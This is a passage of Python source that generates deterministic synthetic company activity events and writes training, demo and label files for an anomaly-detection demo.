    :data:`ANOMALY_KINDS`). Anomalies land at random positions (by their own time). ``metadata.uid`` is
    ``demo-<seed>-<i>`` with ``i`` the position. The same arguments always give the same events.

    ``new_hires`` employees who joined later (see "Shifted traffic" in the module docstring) act beside
    the staff; their own activity is labelled ``"normal"``.

    Raises ``ValueError`` for a negative ``n`` or ``seed``, an ``anomaly_rate`` outside ``[0, 1]`` or
    ``new_hires`` outside ``[0, MAX_NEW_HIRES]``.
    """
    return _generate(
        n,
        seed=seed,
        stream=0,
        anomaly_rate=anomaly_rate,
        start_time_ms=start_time_ms,
        uid_offset=0,
        new_hires=new_hires,
    )


def generate_later(
    earlier: Sequence[Event], n: int, *, seed: int, anomaly_rate: float = 0.0, new_hires: int = 0
) -> tuple[list[dict[str, Any]], list[str]]:
    """``n`` new events of the company of ``seed`` in the period right after ``earlier``.

    ``earlier`` is ``generate_events(len(earlier), seed=seed)``, the period a model trained on. The later
    events come from another random stream of the same company, start after the last earlier event, and
    number their uids on from ``len(earlier)``; ``new_hires`` employees who joined in between act beside
    the staff (see "Shifted traffic"). This is how :func:`write_demo_files` makes the demo file.
    """
    start = DEFAULT_START_TIME_MS + _window_ms(len(earlier))
    if earlier:
        start = max(start, int(earlier[-1]["time"]) + 1)
    return _generate(
        n,
        seed=seed,
        stream=1,
        anomaly_rate=anomaly_rate,
        start_time_ms=start,
        uid_offset=len(earlier),
        new_hires=new_hires,
    )


@dataclass(frozen=True)
class DemoFiles:
    """The three files :func:`write_demo_files` writes."""

    train: Path
    demo: Path
    labels: Path


def _write_jsonl(path: Path, events: Sequence[Event]) -> None:
    path.write_bytes(b"".join(orjson.dumps(event) + b"\n" for event in events))


def write_demo_files(
    out_dir: Path,
    *,
    seed: int = 7,
    n_train: int = 20_000,
    n_demo: int = 2_000,
    anomaly_rate: float = 0.02,
) -> DemoFiles:
    """Write the demo training file, the demo file to score, and the demo file's labels into ``out_dir``.

    * ``train.jsonl``: ``n_train`` normal events, exactly ``generate_events(n_train, seed=seed)``.
    * ``demo.jsonl``: ``n_demo`` new events of the same company (another random stream) in the period right
      after the training one, ``round(n_demo * anomaly_rate)`` of them injected anomalies.
    * ``demo.labels.csv``: header ``line,label,attack``, then one row per demo line: the 1-based line
      number, 1 for an anomaly or 0, and the anomaly kind or ``normal``.

    ``out_dir`` is created if missing; existing files are overwritten. The same arguments always write
    byte-identical files.
    """
    out_dir.mkdir(parents=True, exist_ok=True)
    train_events, _ = generate_events(n_train, seed=seed, anomaly_rate=0.0)
    demo_events, labels = generate_later(train_events, n_demo, seed=seed, anomaly_rate=anomaly_rate)
    files = DemoFiles(train=out_dir / TRAIN_FILE, demo=out_dir / DEMO_FILE, labels=out_dir / LABELS_FILE)
    _write_jsonl(files.train, train_events)
    _write_jsonl(files.demo, demo_events)
    rows = [f"{line},{0 if label == NORMAL else 1},{label}\n" for line, label in enumerate(labels, start=1)]
    files.labels.write_text("line,label,attack\n" + "".join(rows), encoding="utf-8", newline="\n")
    return files
